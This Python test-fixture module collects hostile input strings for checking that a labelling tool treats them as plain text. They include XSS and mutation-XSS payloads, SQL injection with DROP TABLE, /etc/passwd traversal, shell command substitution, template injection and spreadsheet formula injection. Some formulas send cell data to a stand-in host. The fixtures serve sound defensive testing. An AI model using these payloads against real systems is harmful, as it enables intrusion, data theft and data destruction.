"""Texts that would run, load, restyle or restructure a page, a sheet or a query, were they taken for more than text.

Those that run mark the window, the console and a dialog, so that a test sees them; those that load name a host that is
nowhere. Written by hand after OWASP's cheat sheets and the published mutation-XSS and polyglot tests.
"""

from collections.abc import Iterator

from tests.labelling.prompts.attacks import ATTACKS

RUN = "window.planted=1;console.log('planted');alert('planted')"
HOST = "planted.example"

MARKUP: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script_mixed_case": f"<ScRiPt type=module>{RUN}</sCrIpT >",
    "script_source": f"<script src=//{HOST}/x.js></script>",
    "script_nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image_error": f'<img src=x onerror="{RUN}">',
    "image_slash": f"<img/src=x/onerror={RUN}//>",
    "image_formfeed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "image_request": f"<img src=https://{HOST}/seen.png srcset='https://{HOST}/2.png 2x'>",
    "svg_load": f'<svg onload="{RUN}"></svg>',
    "svg_slash": f"<svg/onload={RUN}>",
    "svg_animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "svg_use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    "svg_foreign": f"</title></text></svg><svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg_style": f"<svg><style>*{{background:url(https://{HOST}/s)}}</style></svg>",
    "mathml": f'<math href="javascript:{RUN}"><mtext><table><mglyph><style><img src=x onerror={RUN}></style>',
    "mutation_math": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "mutation_noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation_form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "mutation_listing": f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    "mutation_template": f"<template><div><!--</template><img src=x onerror={RUN}>--></div></template>",
    "shadow_root": f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "select_xmp": f"<select><xmp><script>{RUN}</script>",
    "iframe_srcdoc": f'<iframe srcdoc="<script>parent.planted=1;{RUN}</script>"></iframe>',
    "iframe_javascript": f'<iframe src="javascript:parent.planted=1;{RUN}"></iframe>',
    "object_data": f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src=//{HOST}/e>',
    "base": f'<base href="https://{HOST}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    "own_policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "link_style": f"<link rel=stylesheet href=//{HOST}/s.css><link rel=dns-prefetch href=//{HOST}>",
    "style_import": f"<style>@import url(//{HOST}/s.css);*{{display:none}}</style>",
    "form": f"<form action=https://{HOST}/ id=f><input name=x autofocus onfocus={RUN}></form><button form=f>",
    "details": f"<details open ontoggle={RUN}>",
    "video": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "dom_clobbering": "<a id=headlines><a id=headlines name=querySelectorAll><form name=body><input name=textContent>",
    "marquee": f"<marquee onstart={RUN}><body onload={RUN}><input onfocus={RUN} autofocus>",
}
BREAKOUTS: dict[str, str] = {
    "style_end": f"</style><script>{RUN}</script>",
    "title_end": f"</title><script>{RUN}</script>",
    "textarea_end": f"</textarea></xmp></noscript></select><script>{RUN}</script>",
    "table_end": f"</td></tr></table></div></section></main></body></html><script>{RUN}</script>",
    "comment_end": f"--><script>{RUN}</script><!--",
    "comment_bang": f"--!><img src=x onerror={RUN}>",
    "cdata_end": f"]]><script>{RUN}</script><![CDATA[",
    "cdata_svg": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "double_quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex=1 x="',
    "single_quote": f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    "unquoted": f"x onpointerenter={RUN} style=position:fixed;inset:0",
    "backtick": f"` onmouseover={RUN} x=`",
    "slash_equals": f"\"/onfocus={RUN}/autofocus='",
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
        f"--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
    ),
    "polyglot_short": f"'\"-->]]></style></title></textarea></script><svg/onload={RUN}>",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    "processing": f'<?xml-stylesheet href="//{HOST}/x.xsl"?><?php echo 1 ?>',
}
REFERENCES: dict[str, str] = {
    "javascript": f"javascript:{RUN}",
    "javascript_tab": f"java\tscript:{RUN}",
    "javascript_control": f"\x01javascript:{RUN}",
    "javascript_entity": f"&#106;avascript&colon;{RUN}",
    "data_html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "no_scheme": f"//{HOST}/%2e%2e/",
    "backslashes": f"\\\\{HOST}\\share",
    "file": "file:///etc/passwd",
    "markdown": f"[a](javascript:alert`1`) ![b](https://{HOST}/b.png)",
}
STYLES: dict[str, str] = {
    "css_url": f"red;background:url(https://{HOST}/c)",
    "css_block": f"}} * {{ background: url(//{HOST}/c); display: none }} /*",
    "css_escape": "\\3c/style\\3e <style>body{visibility:hidden}",
    "css_expression": f"expression({RUN})",
}
TEMPLATES: dict[str, str] = {
    "jinja": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# #}",
    "jinja_raw": "{% endraw %}{{ self }}{{ config }}{% raw %}{{ style | safe }}",
    "mustache": "{{{constructor.constructor('alert(1)')()}}}",
    "dollar": "${7*7} #{7*7} <%= 7*7 %> @(7*7) %7*7%",
    "vega": "datum['a'] | signal(1) \\n {\"signal\": \"warn('x')\"}",
    "label_studio": "$query $response ${pins} {{task}}",
    "format": "%s %n {0.__class__} {x!r:>{width}}",
}
ENCODINGS: dict[str, str] = {
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &copy &notit;",
    "numeric_entities": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;&#0;&#x110000;&#xd800;",
    "double_escaped": "&amp;lt;b&amp;gt;",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E%00",
    "js_escapes": "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "fullwidth": "＜script＞alert(1)＜/script＞",
    "iso_2022": "\x1b$B<\x1b(Bscript>alert(1)</script>",
    "null": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
    "null_attribute": f'\x00" onfocus\x00="{RUN}',
    "controls": "\x01\x08\x0b\x0e\x1b[31mred\x1b[0m\x7f\x85\x9b31m",
    "lone_surrogate": "cats \ud800<b>\udfff dogs",
    "noncharacters": "\ufffe\uffff\U0010ffff<i>",
    "zero_width": "<\u200bscript>al\u200dert\ufeff(1)</\u2060script>",
    "tag_characters": "calm" + "".join(chr(0xE0000 + ord(letter)) for letter in "<script>"),
    "line_separators": "a\u2028<b>\u2029\r\n\tc\n",
    "combining_flood": "Z\u0351\u036b\u0343" + "\u0300" * 300,
    "long": "<b>" * 600,
    "long_word": "w" * 3_000,
}
BIDI: dict[str, str] = {
    "bidi_override": "\u202e%24.0\u202c \u202e never closed",
    "bidi_isolate": "\u2066\u2067\u2069\u2069\u2069\u202e closed too often",
    "bidi_marks": "left\u200eright\u200farabic\u061c",
    "right_to_left": "مرحبا <b>بالعالم</b> שלום (12%)",
}
QUERIES: dict[str, str] = {
    "sql_quote": "x' OR '1'='1",
    "sql_escape": "x\\' OR 1=1 --",
    "sql_statement": "x'; DROP TABLE samples; --",
    "sql_backtick": "x` USING delta; DROP TABLE `y",
    "sql_union": "') UNION SELECT * FROM labels --",
    "path": "../../../../etc/passwd",
    "path_absolute": "/etc/passwd\x00.html",
    "path_windows": "..\\..\\C:\\boot.ini:stream",
    "shell": "$(touch planted) `touch planted` ; touch planted | touch planted",
    "log_line": "x\n2026-03-02 00:00:00 [info] release_metrics: wrote nothing\r\x1b[2K",
}
_FORMULAS: dict[str, str] = {
    "formula": '=HYPERLINK("https://planted.example/?x="&A1,"open")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!D2",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_dde": '=DDE("cmd";"/C calc";"x")',
    "formula_blank": "  \xa0=1+1",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_line": "apple\n=1+1",
    "formula_lines": "apple\r\n\r\n @SUM(1)",
    "formula_semicolon": "apple;=1+1",
    "formula_comma": "apple, =1+1",
    "formula_separator_tab": "apple\t+1+1",
    "formula_bar": "apple|-1+1",
    "formula_quote": '";=1+1;"',
    "formula_mark": "\ufeff=1+1",
    "formula_zero_width": "\u200b\u2060=1+1",
    "formula_null": "\x00=1+1",
    "formula_fullwidth": "\uff1d1+1",
    "formula_fullwidth_others": "\uff201+1;\uff0b1;\uff0d1",
    "formula_small": "\ufe661+1",
    "formula_webservice": '=WEBSERVICE("https://planted.example/"&B2)',
    "formula_separator_line": "sep=;\r\n=1+1",
}
FORMULAS = tuple(_FORMULAS.values())
TEXTS: dict[str, str] = {
    **MARKUP, **BREAKOUTS, **REFERENCES, **STYLES, **TEMPLATES, **ENCODINGS, **BIDI, **QUERIES, **_FORMULAS,
}  # fmt: skip
"""Every text, by name."""

_MOST_IN_A_BUNDLE = 16
_LONG = 1_000


def bundles() -> Iterator[tuple[str, list[str]]]:
    """All texts and the short prompt attacks, a few at a time, by the name of the first.

    References are alone, for they must begin, and long texts, which pages may cut. If no text of a bundle is more than
    text, none is alone; and the first that is more shows, whatever comes behind it.
    """
    # Longer attacks are aimed at what a prompt cuts; a page of them would be read for a minute.
    attacks = {attack.name: attack.text for attack in ATTACKS if len(attack.text) <= _LONG}
    for kind in (MARKUP, BREAKOUTS, REFERENCES, STYLES, TEMPLATES, ENCODINGS, BIDI, QUERIES, _FORMULAS, attacks):
        alone = {name: text for name, text in kind.items() if kind is REFERENCES or len(text) > _LONG}
        yield from ((name, [text]) for name, text in alone.items())
        names = [name for name in kind if name not in alone]
        for first in range(0, len(names), _MOST_IN_A_BUNDLE):
            yield names[first], [kind[name] for name in names[first : first + _MOST_IN_A_BUNDLE]]
